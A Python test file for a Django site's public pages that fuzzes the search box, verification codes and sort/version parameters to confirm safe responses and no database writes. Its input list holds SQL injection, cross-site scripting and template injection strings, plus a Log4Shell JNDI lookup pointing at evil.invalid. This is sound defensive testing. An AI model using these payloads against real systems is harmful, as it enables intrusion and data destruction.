"""The public pages' inputs: the search box, the verification code, ?sort= and ?version=.

A search for anything answers 200 with the query shown back escaped; an unknown code or version
answers 404 with Django's page; nothing is ever written and nothing answers 500."""

from __future__ import annotations

from urllib.parse import quote, urlencode

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from tests.access.world import OWN_BLOCK, OWN_UNIT, PUBLISHED_YEAR
from tests.hostile.checks import describe, rolled_back
from tests.hostile.conftest import hostile
from tests.hostile.tally import tried

METACHARACTERS = [
    "' OR '1'='1",
    "'; DROP TABLE assessments_unit; --",
    '" OR ""="',
    "%",
    "_",
    "%%%%",
    "\\",
    ".*",
    "(a+)+$",
    "[",
    "(?<=",
    "*",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.invalid/a}",
    "x" * 10_000,
    "hoàn kiếm" * 2_000,
    "\u202eklát",
    "\ufeff",
    "\U0010ffff",
    "\x00",
    "a\x00b",
]
_query_text = st.one_of(st.sampled_from(METACHARACTERS), st.text(max_size=300))


def _escaped_on_the_page(query: str, page: str) -> bool:
    return "<script>alert(1)</script>" not in page and "onerror=alert(1)>" not in page


@pytest.mark.parametrize("query", METACHARACTERS, ids=describe)
def test_a_search_for_anything_answers_200_with_the_query_escaped(world, db, query):
    with rolled_back() as writes:
        response = Client(raise_request_exception=False).get("/search/", {"q": query})
    tried("public: search, corpus")

    if "\x00" in query:  # no address may carry a NUL: refused before any page sees it
        assert response.status_code == 400 and b"NUL" in response.content
    else:
        assert response.status_code == 200
        assert _escaped_on_the_page(query, response.content.decode())
    assert not writes, str(writes)


@hostile(300)
@given(query=_query_text)
def test_generated_searches_answer_200_and_write_nothing(world, db, query):
    with rolled_back() as writes:
        response = Client(raise_request_exception=False).get(f"/search/?q={quote(query)}")
    tried("public: search, generated queries")

    assert response.status_code == (400 if "\x00" in query else 200), response.status_code
    assert _escaped_on_the_page(query, response.content.decode())
    assert not writes, str(writes)


@hostile(150)
@given(code=_query_text)
def test_a_typed_verification_code_leads_to_a_page_or_a_404_never_a_500(world, db, code):
    client = Client(raise_request_exception=False)
    with rolled_back() as writes:
        typed = client.get("/verify/", {"code": code})
        shown = client.get(typed["Location"]) if typed.status_code == 302 else typed
    tried("public: verification code, generated")

    # 400: Django refuses a redirect longer than 16,384 characters (a code of thousands).
    # 404: what cannot be a code is answered "no certificate has this code" at once.
    assert typed.status_code in (200, 302, 400, 404), typed.status_code
    assert shown.status_code in (200, 400, 404), shown.status_code
    assert _escaped_on_the_page(code, shown.content.decode())
    assert not writes, str(writes)


@hostile(150)
@given(code=st.text(min_size=1, max_size=80).filter(lambda c: "/" not in c))
def test_a_verification_address_with_any_code_answers_404_or_the_award(world, db, code):
    with rolled_back() as writes:
        response = Client(raise_request_exception=False).get(f"/verify/{quote(code, safe='')}/")
    tried("public: verification address, generated")

    assert response.status_code in (200, 404), response.status_code
    assert not writes, str(writes)


PAGES = [
    f"/results/{PUBLISHED_YEAR}/",
    f"/results/{PUBLISHED_YEAR}/{OWN_BLOCK}/",
    f"/results/{PUBLISHED_YEAR}/methodology/",
    f"/results/{PUBLISHED_YEAR}/download.csv",
    f"/results/{PUBLISHED_YEAR}/{OWN_BLOCK}/download.json",
    f"/units/{OWN_UNIT}/",
    "/",
]


@hostile(200)
@given(
    page=st.sampled_from(PAGES),
    sort=st.one_of(st.none(), _query_text, st.sampled_from(["-", "--rank", "-unit", "total"])),
    version=st.one_of(
        st.none(),
        st.text(max_size=12),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.sampled_from(["0", "1", "32000", "32001", "1.0", "1e3", " 1", "١"]),
    ),
)
def test_public_pages_take_any_sort_and_version(world, db, page, sort, version):
    query = {k: v for k, v in (("sort", sort), ("version", version)) if v is not None}
    with rolled_back() as writes:
        response = Client(raise_request_exception=False).get(f"{page}?{urlencode(query)}")
    tried("public: ?sort= and ?version=, generated")

    expected = (400,) if "\x00" in (sort or "") + (version or "") else (200, 404)
    assert response.status_code in expected, (response.status_code, query)
    assert not writes, str(writes)
